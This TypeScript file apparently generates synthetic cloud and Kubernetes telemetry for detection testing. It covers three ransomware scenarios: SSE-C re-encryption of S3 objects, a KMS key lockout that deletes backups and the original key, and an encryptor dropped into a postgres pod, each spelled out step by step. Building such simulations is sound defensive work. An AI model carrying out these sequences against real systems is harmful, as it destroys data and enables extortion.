/**
 * Ransomware: data made unreadable and held for ransom, in the cloud (S3 objects re-encrypted
 * under a key only the attacker has, KMS keys swapped and destroyed) or inside the cluster (a
 * dropped encryptor walking a database's volume).
 */

import type { Random } from '../../core/random.js';
import type { AttackScenario } from '../scenario.js';
import { Script } from '../script.js';
import { bucketNamed, principalNamed, type AwsPrincipal, type Environment, type K8sIdentity } from '../model.js';
import { cloudTrailRecord, s3ObjectCall, type ApiCall } from '../records/cloudtrail.js';
import { shimOf } from '../records/tetragon.js';



/** A call on a bucket (versioning, lifecycle, listings), with S3's additionalEventData. */
function bucketCall(env: Environment, name: string, bucket: string, params: Record<string, unknown> = {}, extra: Partial<ApiCall> = {}): ApiCall {
  const listing = name === 'ListObjects' || name === 'ListObjectVersions';
  return {
    source: 's3.amazonaws.com',
    name,
    requestParameters: { bucketName: bucket, Host: `${bucket}.s3.${env.region}.amazonaws.com`, ...params },
    additionalEventData: { SignatureVersion: 'SigV4', CipherSuite: 'TLS_AES_128_GCM_SHA256', bytesTransferredIn: 0, AuthenticationMethod: 'AuthHeader', 'x-amz-id-2': 'Zm9v', bytesTransferredOut: 0 },
    resources: [
      ...(listing ? [{ type: 'AWS::S3::Object', ARNPrefix: `arn:aws:s3:::${bucket}/${typeof params['prefix'] === 'string' ? params['prefix'] : ''}` }] : []),
      { accountId: env.accountId, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${bucket}` },
    ],
    ...extra,
  };
}

/** A console sign-in as CloudTrail records it: the user, without an access key or session context. */
function consoleSignIn(s: Script, r: Random, who: AwsPrincipal, seconds: number, call: ApiCall): void {
  const t = s.at(seconds);
  const record = cloudTrailRecord(r, s.env, who, t, call);
  record['userIdentity'] = { type: 'IAMUser', principalId: who.principalId, arn: who.arn, accountId: s.env.accountId, userName: who.name };
  s.out.push({ source: 'cloudtrail', timeMs: t, stream: s.env.region, record });
}

/** An S3 version id as S3 writes them (32 URL-safe characters). */
function versionId(r: Random): string {
  return r.alnum(32);
}

const BOTO3_UA = 'Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/linux#5.15.0-119-generic md/arch#x86_64 lang/python#3.10.12 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.36';
const RANSOM_NOTE_BYTES = 1_184;

// ---------------------------------------------------------------------------------------------
// 1. S3 objects re-encrypted with a customer-provided key (SSE-C), Codefinger style.

/** A rented VPS the leaked key is used from. */
const SSEC_ATTACKER_IP = '198.51.100.201';

const sseC: AttackScenario = {
  kind: 'attack',
  id: 'ransomware-s3-sse-c',
  intent: 'ransomware',
  title: "S3 objects re-encrypted with the attacker's customer-provided key (SSE-C)",
  description:
    "An access key of bob's, taken from his laptop by an infostealer, is used from a VPS with a boto3 script: it checks whose key it is, lists the buckets and their versioning, and test-encrypts one object of acme-finance-reports in place with CopyObject and an SSE-C key the attacker generated (AWS keeps no copy), then confirms a plain GetObject now fails. After a pause it rewrites every object of acme-finance-reports the same way and permanently deletes each previous version (the bucket is versioned), rewrites the objects of acme-customer-exports (not versioned, so the plain copy over the key destroys the original), sets lifecycle rules that expire everything within 7 days as a deadline, and uploads HOW_TO_RECOVER_FILES.txt to both buckets.",
  techniques: ['T1078.004', 'T1619', 'T1486', 'T1490', 'T1485.001'],
  durationMs: 10 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const env = ctx.env;
    const r = ctx.random;
    const bob = principalNamed(env, 'bob');
    // bob's programmatic key (not his console session): long-term, no MFA context.
    const stolen: AwsPrincipal = { ...bob, accessKeyId: `AKIA${r.alnum(16).toUpperCase()}`, sourceIps: [SSEC_ATTACKER_IP], userAgent: BOTO3_UA, mfa: false };
    const finance = bucketNamed(env, 'acme-finance-reports');
    const exportsBucket = bucketNamed(env, 'acme-customer-exports');
    const financeKeys = [
      'annual/2025/consolidated-accounts.xlsx', 'annual/2025/audit-pack.zip', 'monthly/2026-08/pnl.csv', 'monthly/2026-09/pnl.csv', 'monthly/2026-10/pnl.csv',
      'monthly/2026-10/balance-sheet.csv', 'payroll/2026-10/payroll-summary.csv',
      ...Array.from({ length: 11 }, (_, i) => `daily/2026-10-${String(21 + i).padStart(2, '0')}/report.csv`),
    ];
    const exportKeys = Array.from({ length: 12 }, (_, i) => `exports/2026-${i < 6 ? '09' : '10'}/customers-${r.hex(8)}.csv.gz`);

    const sseCopy = (bucket: string, key: string, versioned: boolean): ApiCall => {
      const base = s3ObjectCall(env, 'CopyObject', bucket, key, 0);
      return {
        ...base,
        requestParameters: { ...base.requestParameters, 'x-amz-copy-source': `${bucket}/${key}`, 'x-amz-server-side-encryption-customer-algorithm': 'AES256', 'x-id': 'CopyObject' },
        responseElements: {
          'x-amz-server-side-encryption-customer-algorithm': 'AES256',
          ...(versioned ? { 'x-amz-version-id': versionId(r), 'x-amz-copy-source-version-id': versionId(r) } : {}),
        },
        additionalEventData: { ...base.additionalEventData, SSEApplied: 'SSE_C' },
      };
    };
    const deleteVersion = (bucket: string, key: string): ApiCall => {
      const base = s3ObjectCall(env, 'DeleteObject', bucket, key, 0);
      return { ...base, requestParameters: { ...base.requestParameters, versionId: versionId(r), 'x-id': 'DeleteObject' } };
    };

    // Whose key is it, and what can it reach?
    s.cloud(stolen, 0, { source: 'sts.amazonaws.com', name: 'GetCallerIdentity' });
    s.cloud(stolen, 3, { source: 's3.amazonaws.com', name: 'ListBuckets', requestParameters: { Host: `s3.${env.region}.amazonaws.com` } });
    let t = 6;
    for (const b of [finance, exportsBucket]) {
      s.cloud(stolen, t, bucketCall(env, 'GetBucketVersioning', b, { versioning: '' }, { readOnly: true }));
      s.cloud(stolen, t + 1.1, bucketCall(env, 'GetBucketLifecycle', b, { lifecycle: '' }, { readOnly: true, errorCode: 'NoSuchLifecycleConfiguration', errorMessage: 'The lifecycle configuration does not exist' }));
      t += 4;
    }
    s.cloud(stolen, t, bucketCall(env, 'ListObjectVersions', finance, { versions: '', prefix: '', 'encoding-type': 'url' }, { category: 'Data', readOnly: true }));
    s.cloud(stolen, t + 2, bucketCall(env, 'ListObjects', exportsBucket, { 'list-type': '2', prefix: '', 'encoding-type': 'url' }, { category: 'Data', readOnly: true }));

    // A test on one object, and a check that it can no longer be read without the key.
    const [first, ...rest] = financeKeys as [string, ...string[]];
    s.cloud(stolen, 41, sseCopy(finance, first, true));
    s.cloud(stolen, 47, s3ObjectCall(env, 'GetObject', finance, first, 0, {
      errorCode: 'InvalidRequest',
      errorMessage: 'The object was stored using a form of Server Side Encryption. The correct parameters must be provided to retrieve the object.',
    }));

    // The run, a few minutes later: every object rewritten, each old version deleted.
    t = 47 + r.int(240, 420);
    s.cloud(stolen, t, deleteVersion(finance, first));
    for (const key of rest) {
      t += 0.3 + r.next() * 0.9;
      s.cloud(stolen, t, sseCopy(finance, key, true));
      t += 0.2 + r.next() * 0.4;
      s.cloud(stolen, t, deleteVersion(finance, key));
    }
    for (const key of exportKeys) {
      t += 0.3 + r.next() * 1.2;
      s.cloud(stolen, t, sseCopy(exportsBucket, key, false));
    }
    // A deadline: everything (and every old version) expires within a week.
    for (const b of [finance, exportsBucket]) {
      t += 2 + r.next() * 2;
      s.cloud(stolen, t, bucketCall(env, 'PutBucketLifecycle', b, {
        lifecycle: '',
        LifecycleConfiguration: {
          xmlns: 'http://s3.amazonaws.com/doc/2006-03-01/',
          Rule: { ID: 'cleanup', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 7 }, NoncurrentVersionExpiration: { NoncurrentDays: 1 } },
        },
      }));
    }
    for (const b of [finance, exportsBucket]) {
      t += 1 + r.next();
      s.cloud(stolen, t, s3ObjectCall(env, 'PutObject', b, 'HOW_TO_RECOVER_FILES.txt', RANSOM_NOTE_BYTES, {}));
    }
    return s.out;
  },
};

// ---------------------------------------------------------------------------------------------
// 2. KMS key lockout: backups re-encrypted under a key the attacker controls, ours destroyed.

/** The phishing proxy (adversary in the middle) the console sign-in comes through. */
const AITM_PROXY_IP = '192.0.2.147';
/** CloudShell's public address in the region. */
const CLOUDSHELL_IP = '52.49.210.16';
/** The attacker's own AWS account, which alone may decrypt with the new key. */
const ATTACKER_ACCOUNT = '444455556666';
const WINDOWS_CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
const CLOUDSHELL_CLI = (command: string) =>
  `aws-cli/2.22.4 md/awscrt#0.22.0 ua/2.0 os/linux#6.1.115-126.197.amzn2023.x86_64 md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython exec-env/CloudShell cfg/retry-mode#standard md/installer#exe md/distrib#amzn.2023 md/prompt#off md/command#${command}`;

const kmsLockout: AttackScenario = {
  kind: 'attack',
  id: 'ransomware-kms-key-lockout',
  intent: 'ransomware',
  title: "Backups re-encrypted under an attacker-controlled KMS key, the data key scheduled for deletion",
  description:
    "alice's console session is taken through an adversary-in-the-middle phishing page: the sign-in (with MFA, relayed by the proxy) comes from the proxy's address on a Windows browser. From the console the attacker looks at KMS keys, databases, volumes and snapshots, then opens CloudShell and scripts the rest with the AWS CLI: a new KMS key whose policy lets this account encrypt but only the attacker's account decrypt (lockout safety check bypassed), aliased like a backup default; fresh snapshots of both databases, copied with the new key; EBS snapshots copied with it; the original snapshots deleted and automated backups turned off; then the account's own data key (alias/acme-data, under the databases and volumes) disabled and scheduled for deletion with the minimum 7-day window. A README_FOR_DECRYPT.txt in acme-backups states the terms.",
  techniques: ['T1566.002', 'T1557', 'T1078.004', 'T1580', 'T1486', 'T1490', 'T1485'],
  durationMs: 25 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const env = ctx.env;
    const r = ctx.random;
    const alice = principalNamed(env, 'alice');
    const session: AwsPrincipal = { ...alice, accessKeyId: `ASIA${r.alnum(16).toUpperCase()}`, sourceIps: [AITM_PROXY_IP], userAgent: WINDOWS_CHROME, mfa: true };
    const kmsArn = (id: string) => `arn:aws:kms:${env.region}:${env.accountId}:key/${id}`;
    const dataKey = r.uuid();
    const newKey = r.uuid();
    const backups = bucketNamed(env, 'acme-backups');
    const [db1, db2] = env.databases as [string, string];
    const volumes = Array.from({ length: 3 }, () => `vol-0${r.hex(16)}`);
    const ebsSnapshots = volumes.map(() => `snap-0${r.hex(16)}`);

    // The relayed sign-in, then a look around in the console.
    consoleSignIn(s, r, session, 0, {
      source: 'signin.amazonaws.com', name: 'ConsoleLogin', eventType: 'AwsConsoleSignIn', readOnly: false,
      responseElements: { ConsoleLogin: 'Success' },
      additionalEventData: { LoginTo: 'https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true', MobileVersion: 'No', MFAIdentifier: `arn:aws:iam::${env.accountId}:mfa/alice`, MFAUsed: 'Yes' },
    });
    s.cloud(session, 14, { source: 'kms.amazonaws.com', name: 'ListKeys', requestParameters: { limit: 1000 } });
    s.cloud(session, 15, { source: 'kms.amazonaws.com', name: 'ListAliases', requestParameters: { limit: 100 } });
    s.cloud(session, 22, { source: 'kms.amazonaws.com', name: 'DescribeKey', requestParameters: { keyId: 'alias/acme-data' }, resources: [{ accountId: env.accountId, type: 'AWS::KMS::Key', ARN: kmsArn(dataKey) }] });
    s.cloud(session, 24, { source: 'kms.amazonaws.com', name: 'GetKeyPolicy', requestParameters: { keyId: dataKey, policyName: 'default' }, resources: [{ accountId: env.accountId, type: 'AWS::KMS::Key', ARN: kmsArn(dataKey) }] });
    s.cloud(session, 51, { source: 'rds.amazonaws.com', name: 'DescribeDBInstances', requestParameters: { maxRecords: 100 } });
    s.cloud(session, 58, { source: 'rds.amazonaws.com', name: 'DescribeDBSnapshots', requestParameters: { includeShared: false, includePublic: false } });
    s.cloud(session, 77, { source: 'ec2.amazonaws.com', name: 'DescribeVolumes', requestParameters: { volumeSet: {}, filterSet: {}, maxResults: 50 } });
    s.cloud(session, 83, { source: 'ec2.amazonaws.com', name: 'DescribeSnapshots', requestParameters: { snapshotSet: {}, ownersSet: { items: [{ owner: 'self' }] }, filterSet: {} } });

    // CloudShell, from which the rest is scripted.
    const shell = (cmd: string): AwsPrincipal => ({ ...session, sourceIps: [CLOUDSHELL_IP], userAgent: CLOUDSHELL_CLI(cmd) });
    const envId = r.uuid();
    s.cloud(session, 140, { source: 'cloudshell.amazonaws.com', name: 'CreateEnvironment', requestParameters: null, responseElements: { EnvironmentId: envId, Status: 'CREATING' } });
    s.cloud(session, 171, { source: 'cloudshell.amazonaws.com', name: 'CreateSession', requestParameters: { EnvironmentId: envId } });
    s.cloud(session, 172, { source: 'cloudshell.amazonaws.com', name: 'PutCredentials', requestParameters: { EnvironmentId: envId } });

    const keyPolicy = JSON.stringify({
      Version: '2012-10-17',
      Statement: [
        { Sid: 'Admin', Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${ATTACKER_ACCOUNT}:root` }, Action: 'kms:*', Resource: '*' },
        { Sid: 'AllowUseForBackups', Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${env.accountId}:root` }, Action: ['kms:Encrypt', 'kms:ReEncrypt*', 'kms:GenerateDataKey*', 'kms:CreateGrant', 'kms:DescribeKey'], Resource: '*' },
      ],
    });
    s.cloud(shell('kms.create-key'), 236, {
      source: 'kms.amazonaws.com', name: 'CreateKey',
      requestParameters: { description: 'Default key for backup copies', keyUsage: 'ENCRYPT_DECRYPT', keySpec: 'SYMMETRIC_DEFAULT', origin: 'AWS_KMS', multiRegion: false, bypassPolicyLockoutSafetyCheck: true, policy: keyPolicy },
      responseElements: { keyMetadata: { AWSAccountId: env.accountId, keyId: newKey, arn: kmsArn(newKey), creationDate: new Date(s.at(236)).toUTCString(), enabled: true, description: 'Default key for backup copies', keyUsage: 'ENCRYPT_DECRYPT', keyState: 'Enabled', origin: 'AWS_KMS', keyManager: 'CUSTOMER', customerMasterKeySpec: 'SYMMETRIC_DEFAULT', keySpec: 'SYMMETRIC_DEFAULT', encryptionAlgorithms: ['SYMMETRIC_DEFAULT'], multiRegion: false } },
      resources: [{ accountId: env.accountId, type: 'AWS::KMS::Key', ARN: kmsArn(newKey) }],
    });
    s.cloud(shell('kms.create-alias'), 244, { source: 'kms.amazonaws.com', name: 'CreateAlias', requestParameters: { aliasName: 'alias/backup-default', targetKeyId: newKey }, resources: [{ accountId: env.accountId, type: 'AWS::KMS::Key', ARN: kmsArn(newKey) }] });

    // Fresh snapshots of the live databases, then copies of them and of yesterday's, under the new key.
    const stamp = new Date(s.at(0)).toISOString().slice(0, 10);
    const fresh = [db1, db2].map((db) => `${db}-${stamp}-final`);
    [db1, db2].forEach((db, i) => {
      s.cloud(shell('rds.create-db-snapshot'), 262 + i * 3, { source: 'rds.amazonaws.com', name: 'CreateDBSnapshot', requestParameters: { dBInstanceIdentifier: db, dBSnapshotIdentifier: fresh[i] } });
    });
    for (let k = 0; k < 4; k++) s.cloud(shell('rds.describe-db-snapshots'), 330 + k * 60, { source: 'rds.amazonaws.com', name: 'DescribeDBSnapshots', requestParameters: { dBSnapshotIdentifier: fresh[k % 2] } });
    const originals = [...fresh, ...env.snapshots];
    originals.forEach((snap, i) => {
      s.cloud(shell('rds.copy-db-snapshot'), 575 + i * 4, {
        source: 'rds.amazonaws.com', name: 'CopyDBSnapshot',
        requestParameters: { sourceDBSnapshotIdentifier: snap, targetDBSnapshotIdentifier: `${snap}-bkp`, kmsKeyId: kmsArn(newKey), copyTags: true },
        responseElements: { dBSnapshotIdentifier: `${snap}-bkp`, status: 'creating', encrypted: true, kmsKeyId: kmsArn(newKey), sourceDBSnapshotIdentifier: `arn:aws:rds:${env.region}:${env.accountId}:snapshot:${snap}` },
      });
    });
    ebsSnapshots.forEach((snap, i) => {
      s.cloud(shell('ec2.copy-snapshot'), 600 + i * 3, {
        source: 'ec2.amazonaws.com', name: 'CopySnapshot',
        requestParameters: { sourceSnapshotId: snap, sourceRegion: env.region, destinationRegion: env.region, encrypted: true, kmsKeyId: kmsArn(newKey), description: `Copy of ${volumes[i] ?? ''}` },
        responseElements: { snapshotId: `snap-0${r.hex(16)}` },
      });
    });
    for (let k = 0; k < 5; k++) s.cloud(shell('rds.describe-db-snapshots'), 700 + k * 90, { source: 'rds.amazonaws.com', name: 'DescribeDBSnapshots', requestParameters: { snapshotType: 'manual' } });

    // Recovery removed: the originals, then the automated backups.
    let t = 1_180;
    for (const snap of originals) {
      s.cloud(shell('rds.delete-db-snapshot'), t, { source: 'rds.amazonaws.com', name: 'DeleteDBSnapshot', requestParameters: { dBSnapshotIdentifier: snap }, responseElements: { dBSnapshotIdentifier: snap, status: 'deleted' } });
      t += 2 + r.next() * 2;
    }
    for (const snap of ebsSnapshots) {
      s.cloud(shell('ec2.delete-snapshot'), t, { source: 'ec2.amazonaws.com', name: 'DeleteSnapshot', requestParameters: { snapshotId: snap }, responseElements: { _return: true } });
      t += 1.5 + r.next() * 2;
    }
    for (const db of [db1, db2]) {
      s.cloud(shell('rds.modify-db-instance'), t, { source: 'rds.amazonaws.com', name: 'ModifyDBInstance', requestParameters: { dBInstanceIdentifier: db, backupRetentionPeriod: 0, applyImmediately: true } });
      t += 3 + r.next() * 3;
    }

    // Our key: unusable now, gone in a week.
    t += 20;
    s.cloud(shell('kms.disable-key'), t, { source: 'kms.amazonaws.com', name: 'DisableKey', requestParameters: { keyId: dataKey }, resources: [{ accountId: env.accountId, type: 'AWS::KMS::Key', ARN: kmsArn(dataKey) }] });
    t += 6;
    s.cloud(shell('kms.schedule-key-deletion'), t, {
      source: 'kms.amazonaws.com', name: 'ScheduleKeyDeletion',
      requestParameters: { keyId: dataKey, pendingWindowInDays: 7 },
      responseElements: { keyId: kmsArn(dataKey), deletionDate: new Date(s.at(t) + 7 * 86_400_000).toUTCString(), keyState: 'PendingDeletion', pendingWindowInDays: 7 },
      resources: [{ accountId: env.accountId, type: 'AWS::KMS::Key', ARN: kmsArn(dataKey) }],
    });
    t += 35;
    s.cloud(shell('s3.cp'), t, s3ObjectCall(env, 'PutObject', backups, 'README_FOR_DECRYPT.txt', RANSOM_NOTE_BYTES));
    return s.out;
  },
};

// ---------------------------------------------------------------------------------------------
// 3. An encryptor dropped into the database pod.

/** Where the stolen kubeconfig is used from, and the encryptor's key server. */
const K8S_ATTACKER_IP = '203.0.113.158';
const KEY_SERVER = '198.51.100.93';
const ATTACKER_KUBECTL = 'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625';

const inCluster: AttackScenario = {
  kind: 'attack',
  id: 'ransomware-in-cluster-encryptor',
  intent: 'ransomware',
  title: 'Encryptor dropped into the postgres pod encrypts its data volume',
  description:
    "dev-carol@acme.io's kubeconfig (and AWS profile), stolen from her laptop, is used from an outside address: the attacker opens an interactive shell in postgres-0 (data namespace), looks at the data directory and free space, copies a binary in with kubectl cp (tar in the container) to /dev/shm/.s/postgres, named like the database and started with postgres-style arguments. The encryptor fetches its public key, then walks /var/lib/postgresql/data: for each file it reads it, writes an encrypted copy, renames the copy to .locked and deletes the original, and leaves HOW_TO_DECRYPT_FILES.txt in every directory. The attacker removes the binary and leaves.",
  techniques: ['T1078', 'T1609', 'T1105', 'T1036.005', 'T1083', 'T1486', 'T1070.004'],
  durationMs: 7 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const env = ctx.env;
    const r = ctx.random;
    const pod = s.pod('postgres');
    const ns = pod.workload.namespace;
    const carol = env.admins.find((a) => a.username === 'dev-carol@acme.io') ?? env.admins[1];
    if (carol === undefined) throw new Error('the environment has no developer identity');
    const stolen: K8sIdentity = { ...carol, sourceIps: [K8S_ATTACKER_IP], userAgent: ATTACKER_KUBECTL };
    const container = pod.workload.container;
    const data = '/var/lib/postgresql/data';
    const drop = '/dev/shm/.s';
    const uid = pod.workload.uid;

    // Look, then get in.
    s.audit(stolen, 0, { verb: 'list', resource: 'pods', namespace: ns });
    s.audit(stolen, 6, { verb: 'get', resource: 'pods', namespace: ns, name: pod.name });
    s.audit(stolen, 19, { verb: 'create', resource: 'pods', namespace: ns, name: pod.name, subresource: 'exec', query: `command=bash&container=${container}&stdin=true&stdout=true&tty=true` });
    const runc = s.exec(shimOf(pod), 19.3, '/usr/bin/runc', `--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process${r.int(100000000, 999999999)} --console-socket /tmp/pty${r.int(100000000, 999999999)}/pty.sock --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/${pod.containerId}/${r.hex(64)}.pid ${pod.containerId}`, { uid: 0 });
    const bash = s.exec(runc, 19.5, '/bin/bash', '', { pod, uid, cwd: '/' });
    s.falco(bash, 19.6, { rule: 'Terminal shell in container', fields: { 'evt.type': 'execve', 'proc.tty': 34816, 'evt.arg.flags': 'EXE_LOWER_LAYER' } });
    const quick = (sec: number, binary: string, args: string, reads: readonly string[] = []): void => {
      const p = s.exec(bash, sec, binary, args);
      reads.forEach((f, i) => s.read(p, sec + 0.01 * (i + 1), f));
      s.exit(p, sec + 0.05 + reads.length * 0.01);
    };
    quick(26, '/usr/bin/id', '');
    quick(33, '/bin/ls', `-la ${data}`);
    quick(47, '/bin/df', '-h');
    quick(58, '/usr/bin/du', `-sh ${data}/base`);
    quick(71, '/bin/cat', '/proc/mounts', ['/proc/mounts']);
    quick(95, '/bin/mkdir', `-p ${drop}`);

    // kubectl cp: tar unpacks the binary in the container.
    s.audit(stolen, 118, { verb: 'create', resource: 'pods', namespace: ns, name: pod.name, subresource: 'exec', query: `command=tar&command=-xmf&command=-&command=-C&command=${encodeURIComponent(drop)}&container=${container}&stderr=true&stdin=true&stdout=true` });
    const runc2 = s.exec(shimOf(pod), 118.3, '/usr/bin/runc', `--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process${r.int(100000000, 999999999)} --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/${pod.containerId}/${r.hex(64)}.pid ${pod.containerId}`, { uid: 0 });
    const tar = s.exec(runc2, 118.5, '/bin/tar', `-xmf - -C ${drop}`, { pod, uid, cwd: '/' });
    s.open(tar, 118.6, `${drop}/postgres`, 4);
    s.write(tar, 118.7, `${drop}/postgres`);
    s.exit(tar, 121.2);
    s.exit(runc2, 121.3);
    quick(131, '/bin/chmod', `+x ${drop}/postgres`);

    // The encryptor, named like the database.
    const enc = s.exec(bash, 140, `${drop}/postgres`, `-D ${data}`);
    s.falco(enc, 140.1, {
      rule: 'Execution from /dev/shm',
      // On tmpfs, owned by the user that runs it: writable, in no overlay layer.
      fields: { 'evt.res': 'SUCCESS', 'evt.type': 'execve', 'fd.name': null, 'proc.cwd': '/', 'proc.pcmdline': 'bash', 'proc.tty': 34816, 'user.loginname': '', 'group.gid': uid, 'group.name': 'postgres', 'evt.arg.flags': 'EXE_WRITABLE' },
    });
    s.connect(enc, 140.4, KEY_SERVER, 443);
    const dirs: readonly (readonly [string, readonly string[]])[] = [
      [data, ['postgresql.auto.conf', 'pg_hba.conf', 'pg_ident.conf']],
      [`${data}/global`, ['1260', '1262', 'pg_control', 'pg_filenode.map']],
      [`${data}/base/1`, ['1255', '1259', '2608']],
      [`${data}/base/16384`, ['1259', '2619', '2840', '16397', '16397_fsm', '16397_vm', '16402', '16405', '16410']],
      [`${data}/pg_wal`, ['000000010000000000000041', '000000010000000000000042']],
    ];
    let t = 142;
    for (const [dir, files] of dirs) {
      for (const f of files) {
        const path = `${dir}/${f}`;
        // Segments and WAL files are large (up to 1 GiB and 16 MiB): the encryptor only does part of each.
        const size = /^\d{5}$|^0000/.test(f) ? 2 + r.next() * 6 : 0.05 + r.next() * 0.4;
        s.read(enc, t, path);
        s.write(enc, t + size * 0.6, `${path}.part`);
        s.kprobe(enc, t + size, '__x64_sys_renameat', [{ int_arg: -100 }, { string_arg: `${path}.part` }, { int_arg: -100 }, { string_arg: `${path}.locked` }], 'file-rename-unlink', { int_arg: 0 });
        s.kprobe(enc, t + size + 0.002, '__x64_sys_unlinkat', [{ int_arg: -100 }, { string_arg: path }, { int_arg: 0 }], 'file-rename-unlink', { int_arg: 0 });
        t += size + 0.01 + r.next() * 0.05;
      }
      s.open(enc, t, `${dir}/HOW_TO_DECRYPT_FILES.txt`, 7);
      s.write(enc, t + 0.001, `${dir}/HOW_TO_DECRYPT_FILES.txt`);
      t += 0.02;
    }
    s.exit(enc, t + 0.5);

    // Clean up and leave.
    t += 40 + r.int(0, 30);
    quick(t, '/bin/ls', `${data}`);
    quick(t + 21, '/bin/rm', `-rf ${drop}`);
    s.exit(bash, t + 30);
    s.exit(runc, t + 30.1);
    return s.out;
  },
};

export const RANSOMWARE: readonly AttackScenario[] = [sseC, kmsLockout, inCluster];
